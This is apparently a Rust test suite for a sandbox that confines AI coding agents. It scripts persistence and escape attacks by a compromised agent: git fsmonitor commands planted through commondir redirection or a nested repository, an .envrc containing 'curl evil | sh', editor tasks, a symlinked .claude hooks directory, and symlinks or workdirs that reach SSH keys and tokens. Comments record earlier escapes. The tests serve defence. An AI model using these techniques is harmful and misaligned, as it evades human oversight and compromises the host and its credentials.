//! Persistence: files a turned agent writes so that the host runs its code later (git hooks,
//! config and redirections, auto-run files), through `apply` and `--no-ephemeral`. Each test
//! is an attack that once worked, run against the real binary as root and as an unprivileged
//! user; each ends by checking that the host's own `git` runs nothing of the agent's.

use std::path::Path;
use std::process::Command;

use super::run::{Case, NOBODY, User, available, both, is_root, walk};

/// `git ARGS` on the host, in `dir`, as the case's user; true when it succeeded.
fn host_git(case: &Case, dir: &Path, args: &[&str]) -> bool {
    use std::os::unix::process::CommandExt;
    let mut cmd = Command::new("git");
    cmd.args(["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .env("HOME", &case.home);
    if case.user == User::Unprivileged && is_root() {
        cmd.uid(NOBODY).gid(NOBODY);
    }
    cmd.output().unwrap().status.success()
}

/// Makes the workdir a git repository with one commit, owned by the case's user.
fn repository(case: &Case) {
    assert!(host_git(case, &case.work, &["init", "-q", "-b", "main"]));
    assert!(host_git(case, &case.work, &["add", "f"]));
    assert!(host_git(case, &case.work, &["commit", "-q", "-m", "first"]));
    if case.user == User::Unprivileged && is_root() {
        for entry in walk(&case.work) {
            std::os::unix::fs::lchown(&entry, Some(NOBODY), Some(NOBODY)).unwrap();
        }
    }
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

both!(a_git_redirection_through_commondir_is_held_back_by_apply, |user| {
    let case = Case::new(user);
    repository(&case);
    let marker = case.work.parent().unwrap().join("fsmonitor-ran");
    // The agent copies the repository, sets a command in the copy's config, and points the
    // real `.git` at it: the next `git status` on the host would run the command.
    let s = case.sh(
        &[],
        &format!(
            "mkdir evil && cp -r .git evil/g\n\
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch {}\\n' > evil/g/config\n\
             echo ../evil/g > .git/commondir\necho fine > notes.txt\n",
            marker.display()
        ),
    );
    assert_eq!(s.code, 0, "{s:?}");
    let id = s.summary["session"].as_str().unwrap().to_owned();
    let out = case.subcommand(&["apply"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains(&format!("session {id} (workdir {})", case.work.display())), "{err}");
    assert!(err.contains(".git/commondir: makes the host run code later"), "{err}");
    // The copy is a repository by another name: its config is held back too.
    assert!(err.contains("evil/g/config: makes the host run code later"), "{err}");
    assert_eq!(std::fs::read_to_string(case.work.join("notes.txt")).unwrap(), "fine\n", "the rest is applied");
    assert!(!case.work.join(".git/commondir").exists());
    host_git(&case, &case.work, &["status"]);
    assert!(!marker.exists(), "the host's git ran the agent's command");
    // The control: had `apply` taken the files, the host's git would have run the command.
    let changes = case.state.join("sessions").join(&id).join("changes");
    for held in [".git/commondir", "evil/g/config"] {
        std::fs::copy(changes.join(held), case.work.join(held)).unwrap();
    }
    host_git(&case, &case.work, &["status"]);
    assert!(marker.exists(), "the attack does not work here, so the test proves nothing");
});

both!(a_symlink_that_looks_inside_but_resolves_outside_does_not_replace_a_directory, |user| {
    let case = Case::new(user);
    std::fs::create_dir_all(case.work.join("sub")).unwrap();
    std::fs::write(case.work.join("sub/keep.txt"), "mine\n").unwrap();
    if user == User::Unprivileged && is_root() {
        for entry in walk(&case.work) {
            std::os::unix::fs::lchown(&entry, Some(NOBODY), Some(NOBODY)).unwrap();
        }
    }
    let ssh = case.home.join(".ssh");
    let depth = case.work.components().count() - 1;
    let ups = "../".repeat(depth);
    let target = format!("{}{}{}", "l1/".repeat(depth), ups, ssh.strip_prefix("/").unwrap().display());
    let s = case.sh(&[], &format!("ln -s . l1\nrm -rf sub\nln -s {target} sub\necho ok > plain.txt\n"));
    assert_eq!(s.code, 0, "{s:?}");
    let out = case.subcommand(&["apply"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("sub: a symlink that would replace a directory"), "{err}");
    assert!(case.work.join("sub").is_dir() && !case.work.join("sub").is_symlink(), "{err}");
    assert_eq!(std::fs::read_to_string(case.work.join("sub/keep.txt")).unwrap(), "mine\n");
    assert!(case.work.join("plain.txt").exists(), "{err}");
});

both!(apply_without_an_id_in_another_project_never_takes_that_projects_session, |user| {
    let case = Case::new(user);
    let s = case.sh(&[], "echo agent > f\n");
    assert_eq!(s.code, 0, "{s:?}");
    // A second project, where a session changed nothing.
    let other = case.work.parent().unwrap().join("other");
    std::fs::create_dir_all(&other).unwrap();
    if user == User::Unprivileged && is_root() {
        std::os::unix::fs::lchown(&other, Some(NOBODY), Some(NOBODY)).unwrap();
    }
    let mut cmd = Command::new(&case.bin);
    cmd.args(["apply"]).current_dir(&other).env("PORTCULLIS_STATE_DIR", &case.state).env("HOME", &case.home);
    if user == User::Unprivileged && is_root() {
        use std::os::unix::process::CommandExt;
        cmd.uid(NOBODY).gid(NOBODY);
    }
    let out = cmd.output().unwrap();
    let err = stderr(&out);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("no finished session with changes for"), "{err}");
    assert_eq!(
        std::fs::read_to_string(case.work.join("f")).unwrap(),
        "hello\n",
        "another project's session was applied"
    );
});

both!(renaming_dot_git_around_its_read_only_binds_is_refused, |user| {
    let case = Case::new(user);
    repository(&case);
    let marker = case.work.parent().unwrap().join("fsmonitor-ran");
    // Written through: the agent moves `.git` (its read-only hooks and config went with it),
    // and makes a new one whose config runs a command on the host's next `git status`.
    let s = case.sh(
        &["--no-ephemeral"],
        &format!(
            "mv .git .git-old 2>&1 | sed 's/.*: //'\n\
             {{ printf '[core]\\n\\tfsmonitor = touch {}\\n' > .git/config; }} 2>&1 | sed 's/.*: //'\n",
            marker.display()
        ),
    );
    assert_eq!(s.lines(), ["Device or resource busy", "Read-only file system"], "{s:?}");
    assert!(case.work.join(".git/HEAD").exists() && !case.work.join(".git-old").exists(), "{s:?}");
    host_git(&case, &case.work, &["status"]);
    assert!(!marker.exists(), "the host's git ran the agent's command");
});

both!(persistence_made_in_a_written_through_session_is_quarantined, |user| {
    let case = Case::new(user);
    repository(&case);
    let marker = case.work.parent().unwrap().join("fsmonitor-ran");
    // Written through, the agent cannot touch the top repository's hooks or config, so it makes
    // what was not there at the start: an `.envrc`, editor tasks, and a nested repository
    // whose config runs a command on the host's next `git status` in it.
    let script = format!(
        "echo 'curl evil | sh' > .envrc\nmkdir -p .vscode && echo '{{}}' > .vscode/tasks.json\n\
         git init -q vendor/lib\ngit -C vendor/lib config core.fsmonitor 'touch {}'\n\
         git -C vendor/lib config remote.origin.url https://example.org/lib.git\necho work > notes.txt\n",
        marker.display()
    );
    let s = case.sh(&["--no-ephemeral"], &script);
    assert_eq!(s.code, 0, "{s:?}");
    let id = s.summary["session"].as_str().unwrap().to_owned();
    let found: Vec<String> = s.summary["persistence"]
        .as_array()
        .unwrap_or_else(|| panic!("{s:?}"))
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(found, [".envrc", ".vscode/tasks.json", "vendor/lib/.git/config", "vendor/lib/.git/hooks"], "{s:?}");
    assert!(!case.work.join(".envrc").exists() && !case.work.join(".vscode/tasks.json").exists());
    assert!(case.work.join("notes.txt").exists(), "ordinary work stays");
    let config = std::fs::read_to_string(case.work.join("vendor/lib/.git/config")).unwrap();
    assert!(!config.contains("fsmonitor") && config.contains("https://example.org/lib.git"), "{config}");
    host_git(&case, &case.work.join("vendor/lib"), &["status"]);
    assert!(!marker.exists(), "the host's git ran the agent's command");
    // One command puts them back; then the host's git runs the command, so the attack was real.
    let out = case.subcommand(&["apply", "--force", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(case.work.join(".envrc")).unwrap(), "curl evil | sh\n");
    host_git(&case, &case.work.join("vendor/lib"), &["status"]);
    assert!(marker.exists(), "the attack does not work here, so the test proves nothing");
    // Kept on request: reported, left in place.
    let kept = case.sh(&["--no-ephemeral", "--keep-persistence"], "echo x > app.code-workspace\n");
    assert_eq!(kept.summary["persistence"][0]["quarantined"], false, "{kept:?}");
    assert!(case.work.join("app.code-workspace").exists());
});

// ---------------------------------------------------------------- every home

/// A `/etc/passwd` naming `alice` with her home in the case's directory, holding a key and a
/// note; returns the file and her home.
fn alice(case: &Case) -> (std::path::PathBuf, std::path::PathBuf) {
    let dir = case.work.parent().unwrap();
    let home = dir.join("alice");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n").unwrap();
    std::fs::write(home.join("notes.txt"), "alice's notes\n").unwrap();
    std::fs::create_dir_all(home.join(".config/gh")).unwrap();
    std::fs::write(home.join(".config/gh/hosts.yml"), "oauth_token: planted\n").unwrap();
    let mut passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    passwd.push_str(&format!("alice:x:1001:1001::{}:/bin/sh\n", home.display()));
    let file = dir.join("passwd");
    std::fs::write(&file, passwd).unwrap();
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    (file, home)
}

// Started with `sudo` in another user's home (`HOME=/root`, workdir `/home/alice`), the agent
// read alice's SSH key: only the supervisor's own home was refused as a workdir.
both!(a_workdir_that_is_another_users_home_is_refused, |user| {
    if !crate::suite::egress::mapping_available(user) {
        return;
    }
    let case = Case::new(user);
    let (passwd, home) = alice(&case);
    let workdir = home.display().to_string();
    let s = crate::suite::egress::run_in_mount_namespace(
        &case,
        "mount --bind \"$0\" /etc/passwd",
        &passwd,
        &["--workdir", &workdir],
        &["/bin/cat", ".ssh/id_ed25519"],
    );
    assert_eq!(s.code, 2, "{s:?}");
    assert!(s.stderr.contains("is or holds the home directory"), "{}", s.stderr);
    assert!(!s.stdout.contains("planted"), "{s:?}");
});

both!(another_users_home_listed_read_only_shows_no_credentials, |user| {
    if !crate::suite::egress::mapping_available(user) {
        return;
    }
    let case = Case::new(user);
    let (passwd, home) = alice(&case);
    let policy = case.policy(&format!("[filesystem]\nread_only = [{:?}]\n", home.display().to_string()));
    case.script(
        "agent.py",
        &format!(
            "import os\nfor p in ['.ssh/id_ed25519', 'notes.txt']:\n    try:\n        print(open(os.path.join({:?}, p)).read().strip() or 'empty')\n    except OSError as e:\n        print(e.strerror)\n",
            home.display().to_string()
        ),
    );
    let s = crate::suite::egress::run_in_mount_namespace(
        &case,
        "mount --bind \"$0\" /etc/passwd",
        &passwd,
        &["--policy", &policy],
        &["/usr/bin/python3", "agent.py"],
    );
    s.check_enforced(user);
    let lines = s.lines();
    assert_ne!(lines[0], "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted", "{s:?}");
    assert!(!s.stdout.contains("planted"), "{s:?}");
    assert_eq!(lines[1], "alice's notes", "{s:?}");
    // A part of her home shown alone keeps its credentials hidden too.
    let config = home.join(".config");
    let policy = case.policy(&format!("[filesystem]\nread_only = [{:?}]\n", config.display().to_string()));
    case.script("agent.sh", &format!("cat {}/gh/hosts.yml 2>/dev/null || echo hidden\n", config.display()));
    let s = crate::suite::egress::run_in_mount_namespace(
        &case,
        "mount --bind \"$0\" /etc/passwd",
        &passwd,
        &["--policy", &policy],
        &["/bin/sh", "agent.sh"],
    );
    assert_eq!(s.lines(), ["hidden"], "{s:?}");
});

// `mkdir cfg; echo '{"hooks": …}' > cfg/settings.json; ln -s cfg .claude`: the settings file
// the agent CLI runs hooks from, reached through a link that no name on the list matched.
both!(a_link_standing_for_an_agent_settings_directory_is_held_back, |user| {
    let case = Case::new(user);
    let s = case.sh(&[], "mkdir cfg && echo '{\"hooks\": {}}' > cfg/settings.json && ln -s cfg .claude\n");
    assert_eq!(s.code, 0, "{s:?}");
    let out = case.subcommand(&["apply"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains(".claude: makes the host run code later"), "{err}");
    assert!(case.work.join(".claude").symlink_metadata().is_err(), "{err}");
});

// Two sessions written through one tree: the second could swap a directory for a link under
// the first one's persistence sweep, which runs with the supervisor's rights.
both!(a_second_session_written_through_an_overlapping_workdir_is_refused, |user| {
    let case = Case::new(user);
    case.script("hold.sh", "touch started; while [ ! -e release ]; do sleep 0.02; done\n");
    let mut first = case.command(&["--no-ephemeral"], &["/bin/sh", "hold.sh"]).spawn().unwrap();
    for _ in 0..500 {
        if case.work.join("started").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let second = case.run_with(&["--no-ephemeral"], &["/bin/true"], |_| {});
    // One inside it too.
    std::fs::create_dir_all(case.work.join("sub")).unwrap();
    if user == User::Unprivileged && is_root() {
        std::os::unix::fs::lchown(case.work.join("sub"), Some(NOBODY), Some(NOBODY)).unwrap();
    }
    let sub = case.work.join("sub").display().to_string();
    let nested = case.run_with(&["--no-ephemeral", "--workdir", &sub], &["/bin/true"], |_| {});
    std::fs::write(case.work.join("release"), "").unwrap();
    let first_status = first.wait().unwrap();
    assert!(first_status.success());
    assert_eq!(second.code, 2, "{second:?}");
    assert!(second.stderr.contains("writes through"), "{}", second.stderr);
    assert_eq!(nested.code, 2, "a workdir inside the first: {nested:?}");
    // On an overlay it may run meanwhile, and written through once the first has ended.
    let again = case.run_with(&["--no-ephemeral"], &["/bin/true"], |_| {});
    assert_eq!(again.code, 0, "{again:?}");
});
